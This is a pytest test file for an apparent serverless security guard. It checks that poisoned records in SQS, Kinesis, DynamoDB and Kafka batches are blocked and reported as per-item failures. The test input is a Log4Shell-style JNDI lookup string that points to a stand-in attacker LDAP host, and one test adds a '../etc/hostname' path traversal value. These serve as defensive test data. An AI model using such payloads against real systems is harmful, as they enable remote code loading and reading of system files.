"""A batch with poisoned records: the handler gets the others, and the poller is told of those that failed."""

import json

import pytest
from protected import oldest_and_newest, policy

pytestmark = oldest_and_newest
ATTACK = "${jndi:ldap://evil.example/a}"


def sqs(number, text, group=None):
    kind = ".fifo" if group else ""
    return {
        "messageId": number,
        "body": json.dumps({"q": text}),
        "attributes": {"MessageGroupId": group} if group else {},
        "eventSource": "aws:sqs",
        "eventSourceARN": f"arn:aws:sqs:us-east-1:123456789012:orders{kind}",
    }


def kinesis(number, text):
    return {"eventSource": "aws:kinesis", "kinesis": {"sequenceNumber": number, "data": text}}


def dynamodb(number, text):
    image = {"Id": {"N": "1"}, "Note": {"S": text}}
    change = {"SequenceNumber": number, "NewImage": image}
    return {"eventSource": "aws:dynamodb", "dynamodb": change}


def kafka(offset, text):
    return {"topic": "orders", "partition": 0, "offset": offset, "value": text}


def batch(*records):
    return {"Records": list(records)}


def topics(**records):
    return {
        "eventSource": "aws:kafka",
        "records": {f"orders-{n[1:]}": r for n, r in records.items()},
    }


def failed(*names):
    return {"batchItemFailures": [{"itemIdentifier": name} for name in names]}


BATCHES = [
    # kind, event, what the handler gets, what the poller is told, paths in the log
    (
        "sqs",
        batch(sqs("1", "a"), sqs("2", ATTACK), sqs("3", "b")),
        batch(sqs("1", "a"), sqs("3", "b")),
        failed("2"),
        ["Records[1].body→$.q"],
    ),
    (
        "sqs-fifo",
        batch(sqs("1", "a", "g"), sqs("2", ATTACK, "g"), sqs("3", "b", "h"), sqs("4", "c", "g")),
        batch(sqs("1", "a", "g"), sqs("3", "b", "h")),
        failed("2", "4"),
        ["Records[1].body→$.q"],
    ),
    (
        "kinesis",
        batch(kinesis("1", ATTACK), kinesis("2", "a"), kinesis("3", ATTACK)),
        batch(kinesis("2", "a")),
        failed("1", "3"),
        ["Records[0].kinesis.data", "Records[2].kinesis.data"],
    ),
    (
        "dynamodb",
        batch(dynamodb("1", "a"), dynamodb("2", ATTACK)),
        batch(dynamodb("1", "a")),
        failed("2"),
        ["Records[1].dynamodb.NewImage.Note.S"],
    ),
    (
        "kafka",
        topics(_0=[kafka(4, "a"), kafka(5, ATTACK)], _1=[kafka(9, ATTACK)]),
        topics(_0=[kafka(4, "a")]),
        failed({"partition": "orders-0", "offset": 5}, {"partition": "orders-1", "offset": 9}),
        ["records.orders-0[1].value", "records.orders-1[0].value"],
    ),
]
KINDS = pytest.mark.parametrize(
    ("kind", "event", "got", "told", "paths"), BATCHES, ids=[row[0] for row in BATCHES]
)


@pytest.fixture(scope="module")
def reporting(start):
    return start("batches", {"HAUBERK_POLICY": policy(batch="report-item-failures")})


@pytest.fixture(scope="module")
def refusing(start):
    return start("batches", {"HAUBERK_POLICY": policy()})


@pytest.fixture(scope="module")
def plain(start):
    return start("batches", None)


def invoke(running, event, answer="nothing"):
    """What the handler got, None where it did not run; and what was seen."""
    file = running.outside / "event"
    file.unlink(missing_ok=True)
    (running.outside / "answer").write_text(answer)
    seen = running.invoke(event)
    return json.loads(file.read_text()) if file.exists() else None, seen


@KINDS
def test_a_poisoned_record_fails_alone(reporting, kind, event, got, told, paths):
    handled, seen = invoke(reporting, event)
    assert handled == got
    assert seen.value == told
    assert [one["input"]["path"] for one in seen.detections] == paths
    assert {one["verdict"] for one in seen.detections} == {"block"}
    assert all(one["item"] for one in seen.detections)


@KINDS
def test_without_that_setting_the_whole_batch_fails(refusing, kind, event, got, told, paths):
    handled, seen = invoke(refusing, event)
    assert handled is None
    assert seen.error == "Blocked"
    assert [one["input"]["path"] for one in seen.detections] == paths


POISONED = batch(sqs("1", "a"), sqs("2", ATTACK))
ANSWERS = [
    # the handler's          the poller's
    ("nothing", failed("2")),
    ("text", failed("2")),
    ("empty", failed("2")),
    ("null", failed("2")),
    ("own", {**failed("2", "own"), "state": {"n": 1}}),
    ("same", failed("2")),
    ("bytes", failed("2", "own")),
    # The poller retries the whole batch for it, and so it shall.
    ("malformed", {"batchItemFailures": "all of them"}),
]


@pytest.mark.parametrize(("answer", "told"), ANSWERS, ids=[row[0] for row in ANSWERS])
def test_what_the_handler_answers_is_told_too(reporting, answer, told):
    handled, seen = invoke(reporting, POISONED, answer)
    assert handled == batch(sqs("1", "a"))
    assert seen.value == told


def test_an_exception_of_the_handler_is_its_own(reporting, plain):
    _, seen = invoke(reporting, POISONED, "raise")
    _, expected = invoke(plain, POISONED, "raise")
    assert (seen.error, seen.message) == ("ValueError", "of the function's own")
    stack = [json.loads(one.payload)["stackTrace"] for one in (seen, expected)]
    assert stack[0] == stack[1]


def test_where_all_are_poisoned_the_handler_does_not_run(reporting):
    handled, seen = invoke(reporting, batch(sqs("8", ATTACK), sqs("9", ATTACK)), "own")
    assert handled is None
    assert seen.value == failed("8", "9")
    assert [one["item"] for one in seen.detections] == ["8", "9"]


def test_what_is_in_no_record_fails_the_whole_batch(reporting):
    handled, seen = invoke(reporting, {**POISONED, "note": ATTACK})
    assert handled is None
    assert seen.error == "Blocked"


def test_triggers_that_know_no_single_failures_are_refused_whole(reporting):
    record = {"EventSource": "aws:sns", "Sns": {"Message": ATTACK}}
    handled, seen = invoke(reporting, batch(record))
    assert handled is None
    assert seen.error == "Blocked"


@pytest.mark.parametrize("answer", [row[0] for row in ANSWERS])
def test_a_clean_batch_is_answered_as_without_the_guard(reporting, plain, answer):
    event = batch(sqs("1", "a"), sqs("2", "b"))
    handled, seen = invoke(reporting, event, answer)
    expected_handled, expected = invoke(plain, event, answer)
    assert handled == expected_handled == event
    assert seen.payload == expected.payload
    assert not seen.detections


def test_in_detect_nothing_is_taken_out(start):
    running = start(
        "batches", {"HAUBERK_POLICY": policy(mode="detect", batch="report-item-failures")}
    )
    handled, seen = invoke(running, POISONED, "own")
    assert handled == POISONED
    assert seen.value == {**failed("own"), "state": {"n": 1}}
    assert [one["item"] for one in seen.detections] == ["2"]


def test_a_record_that_was_taken_out_is_not_blamed_for_what_the_handler_does(start):
    code = """
def handler(event, context):
    open("/tmp/../etc/hostname").close()
    return {"batchItemFailures": []}
"""
    running = start(code, {"HAUBERK_POLICY": policy(batch="report-item-failures")})
    inputs = json.dumps({"attack": ATTACK, "file": "../etc/hostname"})
    poisoned = {**sqs("2", ""), "body": inputs}
    seen = running.invoke(batch(sqs("1", "a"), poisoned))
    assert seen.value == failed("2")
